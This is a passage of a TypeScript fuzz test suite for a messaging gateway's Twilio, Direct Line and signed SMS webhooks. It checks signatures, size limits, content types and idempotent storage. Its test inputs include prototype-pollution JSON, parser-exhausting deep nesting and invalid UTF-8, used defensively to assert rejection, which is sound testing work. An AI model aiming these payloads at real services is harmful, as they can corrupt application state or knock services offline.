      await fc.assert(
        fc.asyncProperty(status, fieldMutations, async (s, mutations) => {
          const p = Object.fromEntries(
            Object.entries(mutateFields(s, mutations)).map(([k, v]) => [k, typeof v === 'string' ? v : toJson(v)]),
          );
          const url = `${PUBLIC_URL}/sms/twilio/status`;
          const body = form(p);
          const parsed = parseForm(body) as Record<string, string>;
          await send(gw, {
            url: '/sms/twilio/status',
            headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': sign(parsed, url) },
            payload: body,
          });
        }),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    });
  });

  describe('Twilio voice webhook', () => {
    const path = '/voice/twilio/incoming';
    const sign = (params: Record<string, string | string[]>) =>
      twilio.getExpectedTwilioSignature(TWILIO.authToken, PUBLIC_URL + path, params as Record<string, string>);

    it('answers a signed call with TwiML and never fails on mutated, duplicated or odd parameters', async () => {
      const call = fc.record({
        CallSid: fc.oneof(fc.stringMatching(/^CA[0-9a-f]{32}$/), text),
        From: fc.oneof(fc.stringMatching(/^\+861[3-9]\d{9}$/), text),
        To: fc.constant('+8657112345'),
        CallStatus: fc.constant('ringing'),
      });
      await fc.assert(
        fc.asyncProperty(call, fc.option(byteMutations, { nil: undefined }), async (c, mutations) => {
          const body = new URLSearchParams(c).toString();
          const payload = mutations ? mutateBytes(Buffer.from(body), mutations) : Buffer.from(body);
          const parsed = parseForm(payload.toString()) as Record<string, string | string[]>;
          const answer = await send(gw, {
            url: path,
            headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': sign(parsed) },
            payload,
          });
          expect([200, 400]).toContain(answer.status);
          if (answer.status === 200) expect(answer.body).toMatch(/^<\?xml[\s\S]*<Response>/);
          else expect(JSON.parse(answer.body)).toMatchObject({ error: { code: expect.any(String) } });
        }),
      );
    });

    it('refuses unsigned calls and other content types', async () => {
      const params = { CallSid: `CA${'a'.repeat(32)}`, From: '+8613800138000' };
      const body = new URLSearchParams(params).toString();
      const form = { 'content-type': 'application/x-www-form-urlencoded' };
      expect((await send(gw, { url: path, headers: form, payload: body })).status).toBe(403);
      expect(
        (await send(gw, { url: path, headers: { ...form, 'x-twilio-signature': 'AAAA' }, payload: body })).status,
      ).toBe(403);
      const json = { 'content-type': 'application/json', 'x-twilio-signature': sign(params) };
      expect((await send(gw, { url: path, headers: json, payload: JSON.stringify(params) })).status).toBe(415);
      const big = { ...params, Padding: 'x'.repeat(LIMITS.twilioForm) };
      const bigBody = new URLSearchParams(big).toString();
      expect(
        (await send(gw, { url: path, headers: { ...form, 'x-twilio-signature': sign(big) }, payload: bigBody })).status,
      ).toBe(413);
    });
  });

  describe('Direct Line activities', () => {
    const url = () => `/v3/directline/conversations/${conversation.conversationId}/activities`;
    const headers = () => ({ authorization: `Bearer ${conversation.token}`, 'content-type': 'application/json' });
    const activity = fc.record({
      type: fc.constant('message'),
      text,
      locale: fc.constantFrom('zh-CN', 'en-US'),
      from: fc.record({ id: fc.constant('fuzz-user'), name: text.filter((t) => t.length <= 256) }),
      channelData: fc.record({ clientActivityID: fc.constant('') }),
      value: fc.option(fc.oneof(text, fc.double(), fc.dictionary(key, text, { maxKeys: 3 })), { nil: undefined }),
      entities: fc.option(fc.array(fc.dictionary(key, text, { maxKeys: 3 }), { maxLength: 3 }), { nil: undefined }),
      attachments: fc.option(
        fc.array(fc.record({ contentType: text, name: text, contentUrl: text }), { maxLength: 3 }),
        { nil: undefined },
      ),
    });
    const clientIdOf = (payload: string | Buffer): unknown => {
      try {
        return (JSON.parse(payload.toString()) as { channelData?: { clientActivityID?: unknown } }).channelData
          ?.clientActivityID;
      } catch {
        return undefined;
      }
    };
    const withId = <T extends { channelData: { clientActivityID: string } }>(a: T): T => ({
      ...a,
      channelData: { ...a.channelData, clientActivityID: unique('fuzz-') },
    });

    it('stores a posted activity once, also when Web Chat re-posts it with the same client id', async () => {
      await fc.assert(
        fc.asyncProperty(activity, async (a) => {
          await sendAndRetry(
            gw,
            'webchat',
            { url: url(), headers: headers(), payload: toJson(withId(a)) },
            { statuses: [200], expectStored: true },
          );
        }),
      );
    });

    it('never fails on mutated activities: fields deleted or retyped, bytes flipped, truncated or duplicated', async () => {
      await fc.assert(
        fc.asyncProperty(
          activity,
          fieldMutations,
          fc.option(byteMutations, { nil: undefined }),
          async (a, fields, bytes) => {
            const json = toJson(mutateFields(withId(a) as unknown as Record<string, unknown>, fields));
            const payload = bytes ? mutateBytes(Buffer.from(json), bytes) : json;
            // Web Chat recognises a re-post by its client id: without one, a second post is a second message.
            const idempotent = typeof clientIdOf(payload) === 'string';
            await sendAndRetry(
              gw,
              'webchat',
              { url: url(), headers: headers(), payload },
              { statuses: [200, 400], idempotent },
            );
          },
        ),
      );
    });

    it('answers 400 to deep nesting, prototype keys and invalid UTF-8, and survives huge numbers', async () => {
      const base = { type: 'message', text: '你好', channelData: { clientActivityID: '' } };
      const payloads = [
        `{"type":"message","text":"x","value":${'['.repeat(10_000)}${']'.repeat(10_000)}}`,
        `{"type":"message","text":"x","value":${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}}`,
        `{"type":"message","text":"x","channelData":${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}}`,
        `{"type":"message","text":"x","__proto__":{"isAdmin":true}}`,
        `{"type":"message","text":"x","value":{"constructor":{"prototype":{"polluted":true}}}}`,
        Buffer.concat([
          Buffer.from(`{"type":"message","channelData":{"clientActivityID":"${unique('c')}"},"text":"`),
          Buffer.from([0xc0, 0xaf, 0xff, 0xed, 0xa0, 0x80]),
          Buffer.from('"}'),
        ]),
        `\ufeff${JSON.stringify(withId(base))}`,
        `{"type":"message","text":"\\u0000\\ud800 NUL and a lone surrogate","channelData":{"clientActivityID":"${unique('c')}","x":"\\u0000"},"value":{"\\u0000key":"\\udc00"}}`,
        `{"type":"message","text":"x","value":${'1'.repeat(1000)},"channelData":{"n":1e309,"m":-1e309,"clientActivityID":"${unique('c')}"}}`,
        `{"type":"message","text":"x","value":[${Array(5000).fill('1e308').join(',')}],"channelData":{"clientActivityID":"${unique('c')}"}}`,
        '{"type":"message","text":"x"',
        '',
        'null',
        '[]',
        '"message"',
        '1e400',
      ];
      for (const payload of payloads) {
        await sendAndRetry(gw, 'webchat', { url: url(), headers: headers(), payload }, { statuses: [200, 400] });
      }
    });

    it('answers 413 over its limit and takes a large activity under it', async () => {
      const sized = (bytes: number) => {
        const shell = JSON.stringify(
          withId({ type: 'message', text: '', channelData: { clientActivityID: '' }, pad: '' }),
        );
        // Chinese text as \u escapes (6 bytes a character), the rest padding in channelData.
        const textChars = Math.min(8000, Math.floor((bytes - shell.length) / 6));
        const escaped = '\\u6295'.repeat(textChars);
        const pad = 'x'.repeat(bytes - shell.length - escaped.length);
        return JSON.stringify(
          withId({ type: 'message', text: '', channelData: { clientActivityID: '' }, pad }),
        ).replace('"text":""', `"text":"${escaped}"`);
      };
      const over = sized(LIMITS.activity + 1);
      expect(Buffer.byteLength(over)).toBe(LIMITS.activity + 1);
      expect((await sendAndRetry(gw, 'webchat', { url: url(), headers: headers(), payload: over })).status).toBe(413);
      const under = sized(LIMITS.activity - 1);
      expect(Buffer.byteLength(under)).toBe(LIMITS.activity - 1);
      await sendAndRetry(
        gw,
        'webchat',
        { url: url(), headers: headers(), payload: under },
        { statuses: [200], expectStored: true },
      );
    });

    it('answers 4xx to random bytes and wrong content types', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.uint8Array({ maxLength: 1024 }),
          fc.constantFrom(
            'application/json',
            'text/plain',
            'application/xml',
            'application/x-www-form-urlencoded',
            'application/octet-stream',
          ),
          async (bytes, type) => {
            const answer = await sendAndRetry(gw, 'webchat', {
              url: url(),
              headers: { ...headers(), 'content-type': type },
              payload: Buffer.from(bytes),
            });
            expect([400, 415]).toContain(answer.status);
          },
        ),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    });

    it('refuses posts without a valid token, storing nothing', async () => {
      const auth = fc.oneof(
        fc.constant(undefined),
        headerValue.map((s) => `Bearer ${s}`),
        fc.constant(`Bearer ${conversation.token.slice(0, -2)}xx`),
      );
      await fc.assert(
        fc.asyncProperty(activity, auth, async (a, authorization) => {
          const h: Record<string, string> = { 'content-type': 'application/json' };
          if (authorization !== undefined) h.authorization = authorization;
          const answer = await sendAndRetry(gw, 'webchat', { url: url(), headers: h, payload: toJson(withId(a)) });
          expect([400, 401, 403]).toContain(answer.status);
        }),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    });

    it('never fails on odd bodies for conversations, tokens and the guest token', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(
            '/v3/directline/conversations',
            '/v3/directline/tokens/generate',
            '/webchat/token',
            '/v3/directline/tokens/refresh',
          ),
          fc.oneof(
            jsonValue.map(toJson),
            fc.dictionary(text, jsonValue, { maxKeys: 4 }).map(toJson),
            fc.uint8Array({ maxLength: 256 }).map((b) => Buffer.from(b)),
          ),
          async (path, payload) => {
            await send(gw, {
              url: path,
              headers: { authorization: `Bearer ${TEST_DIRECTLINE_SECRET}`, 'content-type': 'application/json' },
              payload,
            });
          },
        ),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    });
  });

  describe('department join links', () => {
    it('never fails on odd tokens and bodies, storing nothing', async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.stringMatching(/^[A-Za-z0-9_-]{16,64}$/),
            text.map((t) => encodeURIComponent(t.replace(/[\ud800-\udfff]/g, ''))),
          ),
          fc.oneof(
            fc.record({ text, name: text }).map(toJson),
            jsonValue.map(toJson),
            fc.uint8Array({ maxLength: 256 }).map((b) => Buffer.from(b)),
          ),
          async (token, payload) => {
            const answer = await sendAndRetry(gw, 'webchat', {
              url: `/api/join/${token}/messages`,
              headers: { 'content-type': 'application/json' },
              payload,
            });
            expect([400, 403, 404, 410, 414]).toContain(answer.status);
            await send(gw, { method: 'GET', url: `/api/join/${token}` });
          },
        ),
        { numRuns: Math.ceil(RUNS / 2) },
      );
    });
  });
});

describe.skipIf(skip)(`webhook fuzz: SMS through the JSON gateway (seed ${SEED})`, () => {
  let gw: TestGateway;

  beforeAll(async () => {
    gw = await startTestGateway({
      engine: 'postgres',
      env: {
        SMS_GATEWAY_URL: `${GATEWAY_API}/v1`,
        SMS_GATEWAY_API_KEY: 'gw-key',
        SMS_GATEWAY_SECRET: GATEWAY_SECRET,
        SMS_FROM: '106912345',
        JOB_ATTEMPTS: '1',
        RATE_LIMIT_MESSAGES_PER_MINUTE: '1000000',
        RATE_LIMIT_IP_PER_MINUTE: '1000000',
      },
    });
    nock(GATEWAY_API).persist().post(/.*/).reply(200, { id: 'gw-fuzz' });
  }, 60_000);
  afterAll(async () => {
    nock.cleanAll();
    await gw?.cleanup();
  });

  const signed = (raw: string | Buffer, path = '/sms/gateway', secret = GATEWAY_SECRET): Request => {
    return {
      url: path,
      // The gateway signs the text it sends; the gateway under test reads the bytes as UTF-8.
      headers: gatewayHeaders(secret, Buffer.from(raw).toString()),
      payload: raw,
    };
  };
  const sms = fc.record({
    from: fc.stringMatching(/^1[3-9]\d{9}$/),
    to: fc.constant('106912345'),
    text,
    messageId: fc.constant(''),
  });
  const withId = <T extends { messageId: string }>(m: T): T => ({ ...m, messageId: unique('gw-in-') });
  const isKeyword = (body: string) =>
    /^(退订|td|t|stop|stopall|unsubscribe|cancel|end|quit|开通|订阅|start|unstop|yes)$/i.test(body.trim());

  it('stores a signed message once, also when the gateway retries it', async () => {
    await fc.assert(
      fc.asyncProperty(sms, async (m) => {
        await sendAndRetry(gw, 'sms', signed(JSON.stringify(withId(m))), {
          statuses: [200],
          expectStored: !isKeyword(m.text),
        });
      }),
    );
  });

  it('never fails on validly signed mutations: fields deleted or retyped, huge numbers, bytes flipped', async () => {
    await fc.assert(
      fc.asyncProperty(sms, fieldMutations, fc.option(byteMutations, { nil: undefined }), async (m, fields, bytes) => {
        const json = toJson(mutateFields(withId(m), fields));
        const payload = bytes ? mutateBytes(Buffer.from(json), bytes) : Buffer.from(json);
        await sendAndRetry(gw, 'sms', signed(payload), { statuses: [200, 400] });
      }),
    );
  });

  it('answers 400 to malformed, deeply nested or non-object JSON that is signed', async () => {
    for (const raw of [
      '',
      '{',
      'null',
      '[]',
      '"text"',
      '1e400',
      '1'.repeat(1000),
      `${'['.repeat(5000)}${']'.repeat(5000)}`,
      `{"from":"13800000000","text":${'{"a":'.repeat(2500)}1${'}'.repeat(2500)},"messageId":"${unique('d')}"}`,
      `\ufeff{"from":"13800000000","text":"BOM","messageId":"${unique('b')}"}`,
      `{"from":"13800000000","text":"\\u0000\\ud800","messageId":"${unique('n')}"}`,
      `{"__proto__":{"from":"13800000000"},"text":"x","messageId":"${unique('p')}"}`,
      `{"from":13800000000,"text":"x","messageId":18446744073709551616}`,
    ]) {
      await sendAndRetry(gw, 'sms', signed(raw), { statuses: [200, 400] });
    }
  });

  it('refuses unsigned, stale and badly signed requests before reading them, storing nothing', async () => {
    await fc.assert(
      fc.asyncProperty(
        sms,
        fc.oneof(fc.constant('wrong secret'), fc.constant('stale'), fc.constant('missing'), headerValue),
        fc.boolean(),
        async (m, how, malformed) => {
          const raw = malformed ? '{"from": ' : JSON.stringify(withId(m));
          const request = signed(
            raw,
            '/sms/gateway',
            how === 'wrong secret' ? 'another-secret-0123456789' : GATEWAY_SECRET,
          );
          const h = request.headers!;
          if (how === 'stale') {
            h['x-sms-timestamp'] = String(Math.floor(Date.now() / 1000) - 3600);
            h['x-sms-signature'] = gatewaySignature(GATEWAY_SECRET, h['x-sms-timestamp'], raw);
          } else if (how === 'missing') delete h['x-sms-signature'];
          else if (how !== 'wrong secret') h['x-sms-signature'] = how;
          const answer = await sendAndRetry(gw, 'sms', request);
          expect([401, 403]).toContain(answer.status);
        },
      ),
    );
  });

  it('answers 413 over its limit, 415 to other content types', async () => {
    const sized = (bytes: number) => {
      const shell = JSON.stringify(withId({ from: '13800000009', to: '106912345', text: '', messageId: '' }));
      return shell.replace(
        '"text":""',
        `"text":"${'投'.repeat(Math.floor((bytes - shell.length) / 3))}${'x'.repeat((bytes - shell.length) % 3)}"`,
      );
    };
    const over = sized(LIMITS.gatewayJson + 1);
    expect(Buffer.byteLength(over)).toBe(LIMITS.gatewayJson + 1);
    expect((await sendAndRetry(gw, 'sms', signed(over))).status).toBe(413);
    const under = sized(LIMITS.gatewayJson - 1);
    expect(Buffer.byteLength(under)).toBe(LIMITS.gatewayJson - 1);
    expect((await sendAndRetry(gw, 'sms', signed(under), { expectStored: true })).status).toBe(200);
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'text/xml']) {
      const request = signed(JSON.stringify(withId({ from: '13800000008', text: 'x', messageId: '' })));
      request.headers!['content-type'] = type;
      expect((await sendAndRetry(gw, 'sms', request)).status, type).toBe(415);
    }
  });

  it('never fails on mutated delivery reports', async () => {
    const report = fc.record({
      messageId: text,
      status: fc.oneof(text, fc.constantFrom('delivered', 'failed')),
      error: text,
    });
    await fc.assert(
      fc.asyncProperty(report, fieldMutations, async (r, fields) => {
        const answer = await send(gw, signed(toJson(mutateFields(r, fields)), '/sms/gateway/status'));
        expect([204, 400]).toContain(answer.status);
      }),
      { numRuns: Math.ceil(RUNS / 2) },
    );
  });
});
